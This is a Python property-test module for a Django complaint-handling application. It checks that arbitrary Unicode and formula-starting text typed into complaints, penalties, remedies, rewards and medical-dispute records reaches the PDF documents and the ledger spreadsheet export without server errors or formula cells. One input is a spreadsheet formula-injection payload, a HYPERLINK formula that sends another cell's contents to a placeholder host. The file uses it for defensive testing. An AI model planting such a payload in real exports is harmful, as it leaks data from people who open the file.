"""Any text the public or a colleague types goes out through every export and document.

Property tests (hypothesis): arbitrary Unicode, with every C0 and C1 control, the
non-characters U+FFFE/U+FFFF, formula starts (``= + - @``, tab, CR) and, where the
transport carries them (JSON ``\\ud800`` escapes), lone surrogates, goes through
registration and the actions that put free text into a case; then through every
spreadsheet and printed document a staff member can download for that case. Never a
5xx, never a formula cell, never a lost case: the case is registered with the text as
typed and listed. Text that cannot be stored at all (NUL, lone surrogates) may be
refused at registration, with a 4xx and nothing registered.

Examples are bounded (at most 25 per document type) and so is the time: the whole
module runs in well under a minute on one core.
"""

from __future__ import annotations

import io
import itertools
import re
from datetime import timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from django.utils import timezone
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader

from tousu.accountability.models import Penalty
from tousu.cases.models import Case
from tousu.conftest import Api, World
from tousu.ops.tokens import create_token
from tousu.orgs.models import Department, Organisation
from tousu.orgs.services import create_user
from tousu.policy.services import create_org
from tousu.remedies.models import Remedy, Reward
from tousu.reports.tests import exporting

pytestmark = pytest.mark.django_db

CONTROLS = [chr(c) for c in (*range(0x01, 0x20), *range(0x7F, 0xA0))]
ODD = ["\ufffe", "\uffff", "\ufffd", "\u2028", "\u202e", "\u200b", "\ufeff", "\ue000"]
NOT_STORABLE = ["\x00", "\ud800", "\udbff", "\udc00", "\udfff"]
STARTS = [
    "",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "=1+2",
    '=HYPERLINK("http://example.invalid/?x="&A2,"点此查看")',
    "+86 138 0000 1111",
]


def _texts(size: int = 16) -> st.SearchStrategy[str]:
    # No NUL and no lone surrogate here: INTAKE adds them on purpose, where refused.
    alphabet = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
    alphabet |= st.sampled_from(CONTROLS + ODD)
    return st.builds(
        lambda start, body: start + body, st.sampled_from(STARTS), st.text(alphabet, max_size=size)
    )


def _spoiled(texts: list[str], spoiler: str, where: int) -> list[str]:
    return [t + spoiler if i == where else t for i, t in enumerate(texts)]


# Four texts for registration; about one example in five also holds a character that
# cannot be stored (NUL, a lone surrogate), which the API must refuse with a 4xx.
INTAKE = st.builds(
    _spoiled,
    st.lists(_texts(), min_size=4, max_size=4),
    st.sampled_from([""] * 20 + NOT_STORABLE),
    st.integers(0, 3),
)


def _storable(text: str) -> bool:
    return not re.search("[\x00\ud800-\udfff]", text)


BOUNDED = settings(
    max_examples=6,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
ADDRESSES = (f"198.51.{i // 250}.{i % 250 + 1}" for i in itertools.count())


# --------------------------------------------------------------------------- checks


def _ok(response: Any, status: int = 200) -> Any:
    assert response.status_code == status, response.content[:1000]
    return response


def _pdf(response: Any) -> None:
    _ok(response)
    assert response["Content-Type"] == "application/pdf"
    assert len(PdfReader(io.BytesIO(response.content)).pages) >= 1


def _ledger_lists(client: Client, org: str, number: str) -> None:
    """The export opens, holds the case and no formula; the ledger and dossier list it."""
    response = _ok(exporting.ledger(client, org))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    listed = [row[0] for row in book["台帐"].iter_rows(min_row=2, values_only=True)]
    assert number in listed
    assert number in _ok(client.get(f"/desk/{org}/ledger/")).content.decode()
    year = timezone.localtime(timezone.now(), ZoneInfo("Asia/Shanghai")).year
    assert number in _ok(client.get(f"/desk/{org}/ledger/dossier/{year}/")).content.decode()


def _registered(response: Any, texts: list[str]) -> str | None:
    """The new case's number; None when text that cannot be stored was refused (4xx)."""
    if all(_storable(t) for t in texts):
        return str(_ok(response, 201).json()["number"])
    assert 400 <= response.status_code < 500, response.content[:1000]
    return None


def _desk(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _api(user: Any, org: str) -> Api:
    return Api(Client(), create_token(user), org)


# --------------------------------------------------------------------------- a complaint


@pytest.fixture
def acme(db: None) -> World:
    return World()


EVERY = "".join(CONTROLS + ODD)


@BOUNDED
@example(via_portal=False, intake=[EVERY] * 4, later=[EVERY] * 6)
@example(via_portal=True, intake=[EVERY] * 4, later=[EVERY] * 6)
@example(via_portal=False, intake=["=1+2", "\ud800", "\udfff", "x"], later=[""] * 6)
@example(via_portal=True, intake=["=1+2", "\x00", "", ""], later=[""] * 6)
@given(
    via_portal=st.booleans(),
    intake=INTAKE,
    later=st.lists(_texts(), min_size=6, max_size=6),
)
def test_any_text_in_a_complaint_reaches_the_ledger_and_its_documents(
    acme: World, via_portal: bool, intake: list[str], later: list[str]
) -> None:
    """Registration form, mediation document, written reply with its receipt; the ledger
    export, the ledger page and the yearly dossier."""
    content, demands, name, subject = intake
    content, subject = f"{content} 重复收费", f"{subject}收费处"
    before = Case.objects.count()
    if via_portal:
        # An HTML form cannot carry a lone surrogate.
        content, demands, name, subject = (
            re.sub("[\ud800-\udfff]", "?", t) for t in (content, demands, name, subject)
        )
        form = {
            "kind": "complaint", "category": "fees", "content": content, "demands": demands,
            "name": f"{name}某", "phone": "13912345678", "subject_name": subject,
        }  # fmt: skip
        response = Client(REMOTE_ADDR=next(ADDRESSES)).post("/o/acme/new/", form, follow=True)
        if _storable(content + demands + name + subject):
            found = re.search(r"<strong>([A-Z]+-[0-9-]+)</strong>", _ok(response).content.decode())
            assert found, response.content.decode()[:2000]
            number: str | None = found.group(1)
        else:
            assert 400 <= response.status_code < 500
            number = None
    else:
        response = acme.api("clerk").register(
            content=content,
            demands=demands,
            complainant={"anonymous": False, "name": f"{name}某", "phone": "13912345678"},
            subject={"type": "department", "name": subject},
        )
        number = _registered(response, intake)
    if number is None:
        assert Case.objects.count() == before
        return
    case = Case.objects.get(number=number)
    assert case.content.strip() == content.strip()  # as typed, less surrounding blanks

    dispatcher, handler = acme.api("dispatcher"), acme.api("handler")
    _ok(dispatcher.act(number, "accept"))
    _ok(dispatcher.act(number, "assign", {"lead_department": "finance", "handler": "handler"}))
    mediation, findings, reply, delivery, participant, place = later
    _ok(handler.act(number, "record", {
        "kind": "mediation", "body": f"调解 {mediation}", "outcome": "agreement",
    }))  # fmt: skip
    _ok(handler.act(number, "resolve", {
        "findings": f"{findings} 属实", "responsibility": "organisation", "valid": True,
    }))  # fmt: skip
    _ok(handler.act(number, "reply", {"channel": "letter", "body": f"{reply} 已退费"}))
    _ok(handler.act(number, "record", {
        "kind": "delivery", "body": f"{delivery} 送达", "participants": [f"{participant}某"],
        "location": place, "occurred_at": timezone.now().isoformat(),
    }))  # fmt: skip

    desk = _desk(acme.users["handler"])
    for kind in ("registration", "mediation", "reply"):
        _pdf(desk.get(f"/desk/acme/cases/{number}/documents/{kind}.pdf"))
    _ledger_lists(_desk(acme.users["supervisor"]), "acme", number)


# --------------------------------------------------------------------------- other presets


class Org:
    """An organisation of one preset with named people, as the app tests build them."""

    def __init__(self, slug: str, preset: str, people: dict[str, tuple[str, str | None]]):
        self.slug = slug
        self.org: Organisation = create_org(slug, f"{slug} 单位", preset)
        self.users = {
            name: create_user(f"{slug}_{name}", org=self.org, role=role, department=dept)
            for name, (role, dept) in people.items()
        }
        self._apis: dict[str, Api] = {}

    def api(self, name: str) -> Api:
        if name not in self._apis:
            self._apis[name] = _api(self.users[name], self.slug)
        return self._apis[name]

    def desk(self, name: str) -> Client:
        return _desk(self.users[name])

    def register(self, texts: list[str], **body: Any) -> str | None:
        """Register through the API with ``texts`` as content, demands, name and subject."""
        content, demands, name, subject = texts
        complainant = body.pop("complainant", {"name": f"{name}某", "phone": "13912345678"})
        subject_body = body.pop("subject", {"type": "department"})
        response = self.api("clerk").register(
            content=f"{content} 内容",
            demands=f"{demands} 要求",
            complainant=complainant,
            subject={**subject_body, "name": f"{subject}对象"},
            **body,
        )
        return _registered(response, texts)

    def handled_by(self, number: str, department: str, status: str) -> None:
        """Where the story picks up: the case handled by ``department``, in ``status``."""
        dept = Department.objects.get(org=self.org, code=department)
        Case.objects.filter(number=number).update(status=status, lead_department=dept)


FEW = settings(BOUNDED, max_examples=4)


@pytest.fixture
def tobacco(db: None) -> Org:
    return Org("tob", "tobacco", {
        "clerk": ("intake_clerk", None), "officer": ("handler", "inspection_brigade"),
        "sup": ("supervisor", None), "lead": ("leader", None),
    })  # fmt: skip


@FEW
@given(intake=INTAKE, later=st.lists(_texts(), min_size=4, max_size=4))
def test_any_text_in_a_penalty_reaches_its_notice_and_appeal_decision(
    tobacco: Org, intake: list[str], later: list[str]
) -> None:
    """处罚决定通知书 and 申诉处理决定书, and the ledger's measures column."""
    o = tobacco
    number = o.register(
        intake, category="officer_misconduct", subject={"type": "staff", "staff": "tob_officer"}
    )
    if number is None:
        return
    o.handled_by(number, "inspection_brigade", "closed")
    reason, decided, appeal, answer = later
    _ok(o.api("sup").act(number, "propose_penalty", {
        "staff": "tob_officer", "kind": "criticism", "reason": f"{reason} 态度粗暴",
    }))  # fmt: skip
    penalty = Penalty.objects.filter(case__number=number).get()
    _ok(o.api("lead").act(number, "decide_penalty", {
        "penalty": penalty.pk, "approved": True, "note": decided,
    }))  # fmt: skip
    _ok(o.api("officer").post(f"/penalties/{penalty.pk}/appeal", {"reason": f"{appeal} 复核"}))
    _ok(o.api("lead").act(number, "decide_appeal", {
        "penalty": penalty.pk, "upheld": True, "note": answer,
    }))  # fmt: skip
    officer = o.desk("officer")
    _pdf(officer.get(f"/desk/tob/people/penalties/{penalty.pk}/notice.pdf"))
    _pdf(officer.get(f"/desk/tob/people/penalties/{penalty.pk}/appeal-decision.pdf"))
    _pdf(o.api("officer").get(f"/penalties/{penalty.pk}/appeal-decision.pdf"))
    _ledger_lists(o.desk("lead"), "tob", number)


@pytest.fixture
def pcb(db: None) -> Org:
    return Org("pcb", "pcb-quality", {
        "clerk": ("intake_clerk", "sales"), "sales_manager": ("department_head", "sales"),
        "supervisor": ("supervisor", None),
    })  # fmt: skip


@FEW
@given(intake=INTAKE, later=st.lists(_texts(), min_size=2, max_size=2))
def test_any_text_in_a_quality_complaint_reaches_its_8d_report_and_remedy_form(
    pcb: Org, intake: list[str], later: list[str]
) -> None:
    """客户抱怨处理表（8D报告） and 赔付/退换货审批单."""
    o = pcb
    number = o.register(intake, channel="phone", category="quality", subject={"type": "product"})
    if number is None:
        return
    o.handled_by(number, "sales", "in_progress")
    reason, note = later
    _ok(o.api("clerk").act(number, "propose_remedy", {
        "kind": "return", "quantity": 120, "unit": "片", "reason": f"{reason} 分层",
    }))  # fmt: skip
    remedy = Remedy.objects.filter(case__number=number).get()
    _ok(o.api("sales_manager").act(number, "approve_remedy", {"remedy": remedy.no, "note": note}))
    manager = o.desk("sales_manager")
    _pdf(manager.get(f"/desk/pcb/cases/{number}/quality/report.pdf"))
    _pdf(manager.get(f"/desk/pcb/cases/{number}/remedies/{remedy.pk}/approval.pdf"))
    _ledger_lists(o.desk("supervisor"), "pcb", number)


@pytest.fixture
def integrity(db: None) -> Org:
    return Org("integrity", "integrity", {
        "clerk": ("intake_clerk", "enterprise_mgmt"), "head": ("supervisor", None),
        "gm": ("leader", None),
    })  # fmt: skip


@FEW
@given(intake=INTAKE, later=st.lists(_texts(), min_size=3, max_size=3))
def test_any_text_in_a_report_reaches_its_reward_decision(
    integrity: Org, intake: list[str], later: list[str]
) -> None:
    """举报奖励决定书."""
    o = integrity
    number = o.register(
        intake, kind="report", channel="letter", category="complaint_scope",
        subject={"type": "staff"},
    )  # fmt: skip
    if number is None:
        return
    o.handled_by(number, "investigation_team", "resolved")
    reason, approved, handed = later
    _ok(o.api("head").act(number, "propose_reward", {"amount": "2000", "reason": f"{reason}属实"}))
    reward = Reward.objects.filter(case__number=number).get()
    _ok(o.api("gm").act(number, "approve_reward", {"reward": reward.no, "note": approved}))
    _ok(o.api("gm").act(number, "hand_over_reward", {
        "reward": reward.no, "method": "bank_transfer", "note": handed,
    }))  # fmt: skip
    _pdf(
        o.desk("gm").get(
            f"/desk/integrity/cases/{number}/remedies/rewards/{reward.pk}/decision.pdf"
        )
    )
    _ledger_lists(o.desk("gm"), "integrity", number)


@pytest.fixture
def hospital(db: None) -> Org:
    return Org("hosp", "hospital", {
        "clerk": ("intake_clerk", "outpatient"), "dispatcher": ("dispatcher", None),
        "office_head": ("department_head", "medical_affairs"),
        "office": ("handler", "medical_affairs"), "supervisor": ("supervisor", None),
    })  # fmt: skip


@FEW
@given(intake=INTAKE, later=st.lists(_texts(12), min_size=8, max_size=8))
def test_any_text_in_a_medical_dispute_reaches_its_procedure_documents(
    hospital: Org, intake: list[str], later: list[str]
) -> None:
    """封存记录 and 重大医疗纠纷报告."""
    o = hospital
    number = o.register(intake, channel="visit", category="medical_dispute")
    if number is None:
        return
    _ok(o.api("dispatcher").act(number, "accept"))
    _ok(o.api("dispatcher").act(number, "assign", {"lead_department": "medical_affairs"}))
    note, body, item, place, sealer, witness, reference, report = later
    at = (timezone.now() - timedelta(minutes=5)).isoformat()
    _ok(o.api("office_head").act(number, "start_procedure", {
        "procedure": "medical_dispute", "note": note,
    }))  # fmt: skip
    _ok(o.api("office").act(number, "record_procedure_step", {
        "procedure": "medical_dispute", "step": "seal_items", "body": f"{body} 封存",
        "items": [f"{item}输液袋"], "location": f"{place}护士站", "occurred_at": at,
        "sealed_by": [f"{sealer}科长"], "witnesses": [f"{witness}某"],
        "patient_signatory": f"{witness}家属", "hospital_signatory": f"{sealer}科长",
        "seal_number": "F-1",
    }))  # fmt: skip
    _ok(o.api("office").act(number, "record_procedure_step", {
        "procedure": "medical_dispute", "step": "authority", "target": "health_authority",
        "occurred_at": at, "method": "written", "reference": f"{reference}号",
        "body": f"{report} 重大医疗纠纷",
    }))  # fmt: skip
    office = o.desk("office")
    for step in ("seal_items", "authority"):
        _pdf(office.get(f"/desk/hosp/cases/{number}/procedures/medical_dispute/{step}.pdf"))
    _ledger_lists(o.desk("supervisor"), "hosp", number)
